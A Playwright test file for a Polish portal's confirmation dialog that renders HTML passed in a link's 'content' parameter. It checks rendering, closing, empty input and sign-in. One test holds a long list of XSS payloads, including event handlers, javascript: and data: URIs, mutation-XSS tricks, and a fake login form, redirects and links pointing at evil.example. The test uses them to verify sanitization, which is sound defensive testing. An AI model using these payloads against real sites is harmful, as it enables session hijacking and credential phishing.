import type { Page } from "@playwright/test";
import { JAN } from "#support/people.ts";
import { dialog, open, signInOnScreen } from "#support/portal.ts";
import { expect, test } from "#support/test.ts";

const link = (content: string, path = "/dashboard") => `${path}?content=${encodeURIComponent(content)}#!potwierdzenie`;

/** Changes the address as a pressed link would, without loading the page anew. */
async function follow(page: Page, content: string): Promise<void> {
  await page.evaluate(() => {
    location.hash = "";
  });
  await expect(dialog(page)).toHaveCount(0);
  await page.evaluate((text) => {
    location.hash = `!potwierdzenie?content=${encodeURIComponent(text)}`;
  }, content);
  await expect(dialog(page)).toBeVisible();
}

test("[MODAL-13, MODAL-37] a link with content shows it in a narrow dialog, with emphasis, lists and links inside", async ({
  page,
  signIn,
  width,
}) => {
  await signIn(JAN);
  const content =
    '<p>Dziękujemy, <strong>Janie</strong>. <em>Faktura</em> dotarła.</p><ul><li>Zajrzyj do <a href="/moje-faktury">moich faktur</a></li></ul>';
  await open(page, link(content));
  const told = dialog(page);
  await expect(told.getByRole("heading", { name: "Potwierdzenie" })).toBeVisible();
  await expect(told.locator("strong")).toHaveText("Janie");
  await expect(told.locator("em")).toHaveText("Faktura");
  await expect(told.getByRole("listitem")).toHaveText("Zajrzyj do moich faktur");
  if (width === "desktop") expect((await told.boundingBox())?.width).toBe(300);
  await told.getByRole("link", { name: "moich faktur" }).click();
  await expect(page).toHaveURL(/\/moje-faktury$/);
  await expect(dialog(page)).toHaveCount(0);
});

test("[MODAL-13] closing takes the hash away @once", async ({ page, signIn }) => {
  await signIn(JAN);
  await open(page, link("<p>Gotowe</p>"));
  await dialog(page).getByRole("button", { name: "Rozumiem" }).click();
  await expect(dialog(page)).toHaveCount(0);
  expect(new URL(page.url()).hash).toBe("");
});

test("[MODAL-14] without anything to say it says 'Brak danych' @once", async ({ page, signIn }) => {
  await signIn(JAN);
  await open(page, "/dashboard#!potwierdzenie");
  await expect(dialog(page).getByText("Brak danych")).toBeVisible();
  for (const nothing of ["", "   ", "<p> </p>", "<script>alert(1)</script>", "<img src=x>", "a".repeat(5001)]) {
    await follow(page, nothing);
    await expect(dialog(page).getByText("Brak danych")).toBeVisible();
  }
});

test("[MODAL-13, MODAL-36] a visitor with such a link signs in first; alone, query content means first login @once", async ({
  page,
}) => {
  await page.goto("/#!potwierdzenie?content=Gotowe");
  await expect(dialog(page).getByRole("heading", { name: "Zaloguj się" })).toBeVisible();
  await signInOnScreen(page, JAN);
  await expect(dialog(page).getByText("Gotowe")).toBeVisible();

  await page.context().clearCookies();
  await page.evaluate(() => localStorage.clear());
  await page.goto("about:blank");
  await page.goto("/?content=Gotowe");
  await expect(dialog(page).getByRole("heading", { name: /Pierwsze logowanie/ })).toBeVisible();
});

/** Written for this dialog: what must neither act, load, lead away nor dress up. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=//evil.example/x.png>",
  "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
  "<p/onclick=alert(1)>x</p>",
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  '<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>',
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=//evil.example></object><embed src=//evil.example>",
  "<video src=x onerror=alert(1)></video><audio autoplay src=//evil.example></audio>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<form action=//evil.example><input name=haslo><button>Zaloguj się</button></form>",
  "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
  '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  '<p id="root" class="fixed" name="tresc">x</p>',
  "<template><img src=x onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<custom-thing onclick=alert(1)>x</custom-thing>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="https://evil.example/">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="/&#9;/evil.example/">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="mailto:a@evil.example">x</a>',
  '<a href="tel:+48700000000">x</a>',
  '<a href="/api/v1/auth/logout">x</a>',
  '<a href="/%61pi/v1/auth/logout">x</a>',
  '<a href="/x/../api/v1/auth/logout">x</a>',
  '<a href="/office/">x</a>',
  '<a href="/faq" target="_blank" ping="//evil.example" download>x</a>',
  '<area href="javascript:alert(1)"><map name=x></map>',
];

test("[MODAL-36] whatever a link carries, nothing of it acts, loads or leads out @once", async ({
  page,
  signIn,
  expectInConsole,
}) => {
  test.slow();
  // Said of the document in which the text is cleaned, which is never shown: our policy binds that one too.
  expectInConsole(/base-uri 'none'/);
  const alarms: string[] = [];
  page.on("dialog", (alarm) => {
    alarms.push(alarm.message());
    void alarm.dismiss();
  });
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) alarms.push(request.url());
  });
  await signIn(JAN);
  await open(page, "/dashboard");
  for (const content of HOSTILE) {
    await follow(page, `<p>początek</p>${content}`);
    const found = await dialog(page).evaluate((box) => {
      const all = [...box.querySelectorAll("*")];
      const foreign =
        "script,style,iframe,object,embed,img,image,form,input,template,math,base,meta,link,video,audio,area";
      return {
        foreign: all.filter((element) => element.matches(foreign)).map((element) => element.outerHTML),
        acting: all
          .flatMap((element) => element.getAttributeNames())
          .filter((name) => /^on|^ping$|^download$/.test(name)),
        dressed: all.filter((element) => element.matches("#root, .fixed, [name=tresc]")).length,
        links: [...box.querySelectorAll("a")].map((element) => element.getAttribute("href")),
      };
    });
    expect.soft(found, content).toEqual({
      foreign: [],
      acting: [],
      dressed: 0,
      links: content.includes('href="/faq"') ? ["/faq"] : [],
    });
    await expect.soft(dialog(page).getByText("początek"), content).toBeVisible();
  }
  expect(alarms).toEqual([]);
  expect(new URL(page.url()).pathname).toBe("/dashboard");
});
